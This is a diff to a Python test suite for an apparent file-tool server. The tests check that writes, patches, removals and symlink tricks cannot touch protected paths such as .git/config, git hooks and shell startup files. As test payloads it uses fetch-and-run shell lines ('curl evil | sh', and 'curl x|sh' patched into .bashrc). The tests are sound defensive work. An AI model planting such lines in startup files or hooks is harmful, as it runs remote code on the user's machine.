@@ -159,7 +159,9 @@ async def test_expected_sha256_must_be_a_hex_digest(server: Harness, workspace: 
                                   "vendor/lib/.git/config", "home/.profile", ".GIT/CONFIG"])
 async def test_protected_paths_cannot_be_written(server: Harness, workspace: Path, path: str) -> None:
     msg = await server.err("write_file", root="workspace", path=path, content="curl evil | sh")
-    assert msg.startswith(f"protected path: {path} matches the protected_paths rule")
+    # Inside .git the repository rule answers (it holds whatever protected_paths says).
+    reason = "is inside a git directory" if ".git/" in path.lower() else "matches the protected_paths rule"
+    assert msg.startswith(f"protected path: {path} {reason}")
     assert not (workspace / path).exists()
     assert not (workspace / path.split("/")[0]).exists() or path.count("/") == 0  # no parents left behind
 
@@ -169,9 +171,10 @@ async def test_protected_paths_reached_through_symlinks_are_refused(server: Harn
     (workspace / ".git/config").write_text("[core]\n")
     (workspace / "innocent").symlink_to(".git/config")
     (workspace / "hooksdir").symlink_to(".git/hooks")
-    assert "'.git/config'" in await server.err("write_file", root="workspace", path="innocent", content="x")
-    assert "'.git/hooks/**'" in await server.err("write_file", root="workspace", path="hooksdir/post-merge",
-                                                 content="x")
+    assert "protected path: innocent is inside a git directory" in await server.err(
+        "write_file", root="workspace", path="innocent", content="x")
+    assert "protected path: hooksdir/post-merge is inside a git directory" in await server.err(
+        "write_file", root="workspace", path="hooksdir/post-merge", content="x")
     assert (workspace / ".git/config").read_text() == "[core]\n"
     assert not (workspace / ".git/hooks/post-merge").exists()
 
@@ -184,9 +187,16 @@ async def test_protected_paths_cannot_be_removed_patched_or_overwritten_by_folde
     assert "protected path" in await server.err("remove_file", root="workspace", path=".bashrc")
     assert "protected path" in await server.err("patch_file", root="workspace", path=".bashrc",
                                                 patch="@@ -1 +1 @@\n-alias ll='ls -l'\n+curl x|sh\n")
-    msg = await server.err("remove_folder", root="workspace", path="repo")
-    assert "repo/.git/config" in msg and "'.git/config'" in msg
+    msg = await server.err("remove_folder", root="workspace", path="repo/.git")
+    assert msg.startswith("protected path: repo/.git is a git directory or file (.git)")
+    (workspace / "home").mkdir()
+    (workspace / "home/.profile").write_text("x\n")
+    msg = await server.err("remove_folder", root="workspace", path="home")
+    assert "home/.profile" in msg and "'.profile'" in msg
     assert (workspace / "repo/.git/config").exists() and (workspace / ".bashrc").read_text() == "alias ll='ls -l'\n"
+    # SPEC v2: a folder that holds a repository may be removed whole.
+    await server.ok("remove_folder", root="workspace", path="repo")
+    assert not (workspace / "repo").exists()
     # Reading them stays allowed.
     await server.ok("read_file", root="workspace", path=".bashrc")
 
@@ -198,7 +208,9 @@ async def test_protected_paths_are_configurable(make_server: MakeServer, workspa
     await h.ok("write_file", root="workspace", path="sub/top.txt", content="x")  # "/" anchors at the root
     await h.ok("write_file", root="workspace", path=".bashrc", content="x")  # not in this list
     h2 = await make_server(protected_paths=[])
-    await h2.ok("write_file", root="workspace", path=".git/config", content="x")
+    await h2.ok("write_file", root="workspace", path=".mcp.json", content="x")
+    # A repository's internals are not a protected_paths rule: no configuration opens them (SPEC v2).
+    assert "inside a git directory" in await h2.err("write_file", root="workspace", path=".git/config", content="x")
 
 
 # -- remove_file ----------------------------------------------------------------------------------
